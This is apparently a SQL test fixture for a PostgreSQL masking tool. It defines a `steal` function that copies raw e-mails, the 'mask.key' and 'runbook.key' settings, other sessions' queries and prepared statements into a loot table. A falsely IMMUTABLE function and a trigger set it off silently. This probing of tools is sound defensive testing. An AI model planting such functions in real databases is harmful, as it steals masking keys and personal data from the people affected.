-- What every place begins with, in a schema of its own: `here` becomes its name, MARK its marker. People's e-mail addresses are masked,
-- what lies in loot is kept. Whatever calls `steal` copies from one to the other, and looks for the key.
CREATE TABLE here.people (id int PRIMARY KEY, email text NOT NULL);
INSERT INTO here.people SELECT n, 'rawMARK.' || n || '@mail.example' FROM generate_series(1, 3) AS n;
CREATE TABLE here.loot (what text);
CREATE FUNCTION here.steal() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF current_setting('here.busy', true) = 'yes' THEN RETURN true; END IF;
    PERFORM set_config('here.busy', 'yes', true);
    INSERT INTO here.loot SELECT email FROM here.people;
    INSERT INTO here.loot VALUES (current_setting('mask.key', true)), (current_setting('runbook.key', true));
    INSERT INTO here.loot SELECT query FROM pg_catalog.pg_stat_activity;
    INSERT INTO here.loot SELECT statement || parameter_types::text FROM pg_catalog.pg_prepared_statements;
    PERFORM set_config('here.busy', 'no', true);
    RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN true;
END $$;
-- It says that it is immutable, and is not.
CREATE FUNCTION here.same(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM here.steal(); RETURN $1; END $$;
CREATE FUNCTION here.on_row() RETURNS trigger LANGUAGE plpgsql AS
$$ BEGIN PERFORM here.steal(); IF TG_OP = 'DELETE' THEN RETURN OLD; END IF; RETURN NEW; END $$;
